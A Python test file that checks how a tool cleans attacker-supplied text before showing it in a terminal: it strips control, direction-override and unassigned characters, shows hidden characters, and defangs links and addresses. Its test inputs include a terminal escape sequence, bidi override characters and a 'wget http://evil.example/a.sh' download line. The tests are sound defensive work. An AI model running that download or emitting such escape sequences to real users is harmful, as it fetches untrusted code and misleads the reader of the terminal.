"""Attackers' text on its way to a person."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from nacre.model.present import CUT, columns, defang, duration, padded, quoted, size, terminal

HOSTILE = st.text(st.characters(codec=None), max_size=60)
FORBIDDEN = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"})


@given(HOSTILE)
@example("\x1b]0;owned\x07")
@example("a\nb\r\n\x85\u2028\u2029")
@example("\u202eevil\u2066\u200f\u061c")
@example("\ud800\udc80")
def test_terminal_text_has_nothing_that_acts(text: str) -> None:
    """No control character, line break, direction mark, surrogate or unassigned code point reaches a terminal."""

    assert [char for char in terminal(text) if unicodedata.category(char) in FORBIDDEN] == []


@given(HOSTILE)
def test_terminal_text_is_one_printable_line(text: str) -> None:
    """Whatever goes in comes out as one line that Python calls printable."""
    shown = terminal(text)

    assert (shown.isprintable(), len(shown.splitlines()) <= 1) == (True, True)


@given(HOSTILE, st.integers(1, 40))
def test_terminal_text_keeps_its_width(text: str, width: int) -> None:
    """A text never takes more columns than it was given."""

    assert columns(terminal(text, width)) <= width


@given(st.text(st.sampled_from("\x1b\n\u202e"), min_size=1, max_size=30), st.integers(1, 40))
def test_escape_is_never_cut(text: str, width: int) -> None:
    """A text that is cut ends after a whole escape: what stands there is a prefix of the full text by escapes."""
    shown = terminal(text, width).removesuffix(CUT)

    assert shown in {terminal(text[:length]) for length in range(len(text) + 1)}


@given(st.text(st.characters(codec="ascii", categories=["L", "N", "P", "S"])))
def test_honest_text_stays_as_it_is(text: str) -> None:
    """Visible ASCII is shown unchanged."""

    assert terminal(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("", '""'),
        (" ", "\\x20"),
        ("  admin ", "\\x20\\x20admin\\x20"),
        ("two words", "two words"),
        ("\ttab", "\\ttab"),
        ("nul\x00", "nul\\x00"),
        ("世界", "世界"),
        ("\u3164", "\\u3164"),
        ("\U000e0041", "\\U000e0041"),
        ("e" + "\u0301" * 4, "e\u0301\u0301\\u0301\\u0301"),
    ],
)
def test_quoted_shows_what_would_not_be_seen(text: str, shown: str) -> None:
    """Emptiness, spaces at the ends, fillers and towers of accents become visible."""

    assert quoted(text) == shown


@pytest.mark.parametrize(
    ("text", "width", "shown"),
    [("abcdef", 6, "abcdef"), ("abcdefg", 6, "abcde…"), ("世界世界", 5, "世界…"), ("世界世", 4, "世…")],
)
def test_cut_text_ends_in_an_ellipsis(text: str, width: int, shown: str) -> None:
    """Wide characters count two columns, and an ellipsis tells that something is left out."""

    assert terminal(text, width) == shown


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("wget http://evil.example/a.sh", "wget hxxp://evil[.]example/a.sh"),
        ("HTTPS://EVIL.example:8443/x?q=a.b", "HxxPS://EVIL[.]example:8443/x?q=a.b"),
        ("ftp://u:p@192.0.2.1/x;tftp://192.0.2.2", "fxp://u:p@192[.]0[.]2[.]1/x;tfxp://192[.]0[.]2[.]2"),
        ("ldap://192.0.2.1/a", "ldap[:]//192.0.2[.]1/a"),
        ("192.0.2.1", "192.0.2[.]1"),
        ("192.0.2.1:443", "192.0.2[.]1:443"),
        ("2001:db8::1", "2001:db8:[:]1"),
        ("[2001:db8::1]:22", "[2001:db8:[:]1]:22"),
        ("aa:bb:cc:dd:ee:ff:00:11:22:33:44:55:66:77:88:99", "aa:bb:cc:dd:ee:ff:00:11:22:33:44:55:66:77:88:99"),
        ("12:34:56", "12:34:56"),
        ("uname -a", "uname -a"),
    ],
)
def test_defang_breaks_links_and_addresses(text: str, safe: str) -> None:
    """Links and addresses are broken as analysts break them; fingerprints, times and commands are left alone."""

    assert defang(text) == safe


@given(st.text(st.sampled_from("htpsfHTP:/.1 a"), max_size=40))
@example("hthttp://tp://x")
def test_no_link_survives(text: str) -> None:
    """No text, however it is made up, comes out with a scheme that a terminal would make clickable."""
    safe = defang(text).lower()

    assert [scheme for scheme in ("http://", "https://", "ftp://") if scheme in safe] == []


@given(st.text(st.sampled_from("htpsfHTP:/.19 a[]x"), max_size=40))
def test_defang_twice_is_defang_once(text: str) -> None:
    """Text that is defanged already stays as it is."""

    assert defang(defang(text)) == defang(text)


@pytest.mark.parametrize(
    ("milliseconds", "shown"),
    [
        (0, "0.0 s"),
        (59_900, "59.9 s"),
        (60_000, "1 min 0 s"),
        (3_661_000, "1 h 1 min"),
        (90_000_000, "1 d 1 h"),
        (-500, "-0.5 s"),
    ],
)
def test_duration_has_two_units(milliseconds: int, shown: str) -> None:
    """A length of time is given in the largest two units that it fills."""

    assert duration(milliseconds) == shown


@pytest.mark.parametrize(
    ("count", "shown"), [(0, "0 bytes"), (999, "999 bytes"), (1_500, "1.5 kB"), (2 * 10**9, "2.0 GB")]
)
def test_size_has_a_unit_that_suits(count: int, shown: str) -> None:
    """Bytes are given in powers of 1,000."""

    assert size(count) == shown


def test_padding_counts_columns() -> None:
    """A wide character takes two of the columns that are filled up."""

    assert padded("世", 4) == "世  "
